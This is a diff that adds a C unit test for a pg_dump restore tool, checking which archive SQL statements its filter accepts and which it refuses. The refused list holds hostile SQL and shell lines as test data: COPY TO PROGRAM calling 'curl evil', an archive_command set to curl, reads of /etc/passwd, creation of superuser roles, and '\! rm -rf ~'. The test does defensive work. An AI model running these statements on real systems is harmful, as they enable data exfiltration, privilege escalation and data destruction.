@@ -209,6 +209,91 @@ test_owner_role(void **state)
 	}
 }
 
+/* stmt_refusal of the one statement in s */
+static const char *
+refusal_of(const char *s)
+{
+	sql_stmt *st;
+	size_t n;
+	char err[128];
+	const char *why;
+
+	assert_int_equal(sql_split(s, strlen(s), &st, &n, err, sizeof(err)), 0);
+	assert_int_equal(n, 1);
+	why = stmt_refusal(s, &st[0]);
+	free(st);
+	return why;
+}
+
+static void
+test_refusal(void **state)
+{
+	/* what pg_dump writes in the schema sections */
+	static const char *const accepted[] = {
+		"SET statement_timeout = 0;",
+		"SET default_table_access_method = heap;",
+		"SELECT pg_catalog.set_config('search_path', '', false);",
+		"SELECT pg_catalog.setval('public.t_id_seq', 42, true);",
+		"CREATE SCHEMA app;",
+		"CREATE TABLE public.t (id integer DEFAULT nextval('s'::regclass));",
+		"CREATE OR REPLACE FUNCTION public.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
+		"CREATE UNIQUE INDEX i ON public.t USING btree (id);",
+		"CREATE CONSTRAINT TRIGGER tr AFTER INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.f();",
+		"CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public;",
+		"CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'x');",
+		"CREATE UNLOGGED TABLE public.u (x int);",
+		"ALTER TABLE ONLY public.t ADD CONSTRAINT t_pkey PRIMARY KEY (id);",
+		"ALTER TABLE public.t OWNER TO app;",
+		"ALTER DEFAULT PRIVILEGES FOR ROLE app GRANT SELECT ON TABLES TO PUBLIC;",
+		"COMMENT ON TABLE public.t IS 'x';",
+		"SECURITY LABEL FOR selinux ON TABLE public.t IS 'x';",
+		"GRANT SELECT ON TABLE public.t TO app;",
+		"REVOKE ALL ON SCHEMA public FROM PUBLIC;",
+		"REFRESH MATERIALIZED VIEW public.mv;",
+		"\\restrict abc",
+	};
+	/* what an archive someone else made could add */
+	static const char *const refused[] = {
+		"DROP DATABASE app;",
+		"DROP TABLE public.t;",
+		"CREATE DATABASE evil;",
+		"CREATE ROLE evil SUPERUSER;",
+		"CREATE USER evil;",
+		"CREATE OR REPLACE TABLESPACE t LOCATION '/tmp';",
+		"CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;",
+		"ALTER DATABASE app SET session_preload_libraries = 'evil';",
+		"ALTER ROLE app SUPERUSER;",
+		"ALTER SYSTEM SET archive_command = 'curl evil';",
+		"COPY public.t TO PROGRAM 'curl evil';",
+		"COPY public.t FROM '/etc/passwd';",
+		"DO $$ BEGIN PERFORM 1; END $$;",
+		"CALL public.p();",
+		"INSERT INTO public.t VALUES (1);",
+		"TRUNCATE public.t;",
+		"SELECT pg_catalog.set_config('a', pg_read_file('/etc/passwd'), false);",
+		"SELECT pg_terminate_backend(1);",
+		"SELECT 1;",
+		"GRANT pg_execute_server_program TO app;",
+		"REVOKE app FROM other;",
+		"SET ROLE postgres;",
+		"SET SESSION AUTHORIZATION postgres;",
+		"SET LOCAL ROLE postgres;",
+		"BEGIN;",
+		"LOAD 'evil';",
+		"\\! rm -rf ~",
+		"\\copy t to program 'x'",
+		"WITH x AS (DELETE FROM t RETURNING *) SELECT 1;",
+	};
+
+	(void) state;
+	for (size_t i = 0; i < sizeof(accepted) / sizeof(accepted[0]); i++)
+		if (refusal_of(accepted[i]))
+			fail_msg("refused: %s (%s)", accepted[i], refusal_of(accepted[i]));
+	for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
+		if (!refusal_of(refused[i]))
+			fail_msg("accepted: %s", refused[i]);
+}
+
 static void
 test_table_key(void **state)
 {
@@ -230,6 +315,7 @@ main(void)
 		cmocka_unit_test(test_foreign_keys),
 		cmocka_unit_test(test_meta_and_others),
 		cmocka_unit_test(test_owner_role),
+		cmocka_unit_test(test_refusal),
 		cmocka_unit_test(test_table_key),
 	};
 
